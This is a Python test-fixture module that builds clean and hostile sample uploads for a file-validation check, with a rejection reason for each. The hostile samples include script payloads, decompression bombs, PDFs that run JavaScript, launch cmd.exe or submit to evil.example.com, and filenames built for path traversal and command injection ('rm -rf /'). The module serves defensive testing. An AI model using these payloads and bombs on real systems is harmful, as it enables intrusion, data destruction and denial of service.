"""Papers to send: honest ones, and files that are not what they seem. All of them made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image


def image(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    """A picture: its left half red."""
    picture = Image.new(mode, size, "white")
    if mode == "RGB":
        picture.paste((200, 0, 0), (0, 0, size[0] // 2, size[1]))
    made = io.BytesIO()
    picture.save(made, kind, **options)
    return made.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda document: None, **options: Any) -> bytes:
    """A PDF of one page, changed before it is saved."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    change(document)
    made = io.BytesIO()
    document.save(made, **options)
    return made.getvalue()


def rotated_photo() -> bytes:
    """A phone's photo: lying on its side, with a note to turn it, a place and a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it a quarter to the right
    exif[0x010E] = "SECRET DESCRIPTION"
    exif.get_ifd(0x8825)[1] = "N"
    return image("JPEG", exif=exif, comment=b"SECRET COMMENT")


PHOTO = rotated_photo()
PICTURE = image("PNG")
DOCUMENT = pdf()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    """A PNG that claims to be so large, with those compressed rows."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _packed_zeros(megabytes: int) -> bytes:
    """So many zeros as zlib packs them (RFC 1950): one part over and over, for packing each would take seconds."""
    packer = zlib.compressobj(9, wbits=-15)
    part = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    adler32 = ((megabytes << 20) % 65521) << 16 | 1
    return b"\x78\xda" + part * megabytes + packer.flush() + struct.pack(">I", adler32)


def archive(content: bytes = b"MZ") -> bytes:
    """A ZIP with a program in it."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        opened.writestr("setup.exe", content)
    return made.getvalue()


def _with_action(action: dict[str, Any]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(action)

    return pdf(change)


def _with_link(action: dict[str, Any]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
        link.A = pikepdf.Dictionary(action)
        document.pages[0].Annots = pikepdf.Array([link])

    return pdf(change)


def _with_attachment() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["setup.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")

    return pdf(change)


def _with_form() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))

    return pdf(change)


def _with_hidden_zip() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(archive() + b" ")

    return pdf(change, compress_streams=False)


def _heavy_objects() -> bytes:
    """A PDF whose index of objects unpacks to two gigabytes."""
    packed = _packed_zeros(2048)
    parts = [b"%PDF-1.7\n"]
    at = len(parts[0])
    head = f"1 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Length {len(packed)}/Filter/FlateDecode>>\nstream\n"
    parts += [head.encode(), packed, f"\nendstream\nendobj\nstartxref\n{at}\n%%EOF".encode()]
    return b"".join(parts)


JAVASCRIPT = {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}
LAUNCH = {"/S": pikepdf.Name.Launch, "/F": "cmd.exe"}
SUBMIT = {"/S": pikepdf.Name.SubmitForm, "/F": "https://evil.example.com"}

# name: (announced type, content, why it is rejected)
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "a page": ("image/png", b"<!doctype html><script>alert(1)</script>", "other_type"),
    "a drawing with a script": (
        "image/png",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "other_type",
    ),
    "a program": ("application/pdf", b"MZ" + bytes(500), "other_type"),
    "a ZIP": ("application/pdf", archive(), "other_type"),
    "a PNG as JPEG": ("image/jpeg", PICTURE, "other_type"),
    "a JPEG as PNG": ("image/png", PHOTO, "other_type"),
    "a JPEG as PDF": ("application/pdf", PHOTO, "other_type"),
    "a PDF as PNG": ("image/png", DOCUMENT, "other_type"),
    "a GIF": ("image/png", image("GIF", mode="P"), "other_type"),
    "a TIFF": ("image/jpeg", image("TIFF"), "other_type"),
    "half a JPEG": ("image/jpeg", image("JPEG", (600, 400))[:-900], "damaged"),
    "half a PNG": ("image/png", image("PNG", (600, 400))[:-40], "damaged"),
    "half a PDF": ("application/pdf", DOCUMENT[: len(DOCUMENT) // 2], "damaged"),
    "only a signature of JPEG": ("image/jpeg", b"\xff\xd8\xff", "damaged"),
    "only a signature of PNG": ("image/png", b"\x89PNG\r\n\x1a\n", "damaged"),
    "only a signature of PDF": ("application/pdf", b"%PDF-1.7\n%%EOF", "damaged"),
    "a bomb of pixels": ("image/png", png_of(60_000, 60_000, zlib.compress(bytes(1 << 20))), "too_heavy"),
    "a bomb of text": (
        "image/png",
        png_of(1, 1, zlib.compress(b"\0\0"), _chunk(b"zTXt", b"a\0\0" + _packed_zeros(256))),
        "damaged",
    ),
    "a bomb of objects": ("application/pdf", _heavy_objects(), "damaged"),
    "something before a PDF": ("application/pdf", b"<script>alert(1)</script>\n" + DOCUMENT, "disguised"),
    "something after a PDF": ("application/pdf", DOCUMENT + b"<script>alert(1)</script>", "disguised"),
    "a ZIP after a PDF": ("application/pdf", DOCUMENT + archive(), "disguised"),
    "a ZIP inside a PDF": ("application/pdf", _with_hidden_zip(), "disguised"),
    "a PDF that runs a script": ("application/pdf", _with_action(JAVASCRIPT), "active"),
    "a PDF whose link runs a script": ("application/pdf", _with_link(JAVASCRIPT), "active"),
    "a PDF that starts a program": ("application/pdf", _with_action(LAUNCH), "active"),
    "a PDF that sends itself": ("application/pdf", _with_link(SUBMIT), "active"),
    "a PDF with a file inside": ("application/pdf", _with_attachment(), "active"),
    "a PDF with an active form": ("application/pdf", _with_form(), "active"),
    "a PDF with a password": (
        "application/pdf",
        pdf(encryption=pikepdf.Encryption(owner="owner", user="user")),
        "encrypted",
    ),
    "a PDF with restrictions": (
        "application/pdf",
        pdf(encryption=pikepdf.Encryption(owner="owner", user="")),
        "encrypted",
    ),
    "a PDF without a page": ("application/pdf", pdf(lambda document: document.pages.__delitem__(0)), "damaged"),
}
# What a file may be called.
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "<img src=x onerror=alert(1)>.png",
    '"; rm -rf / #.pdf',
    "${filename}",
    "quarantine/other/kbis/0",
    "pièce d’identité 📷.jpeg",
)
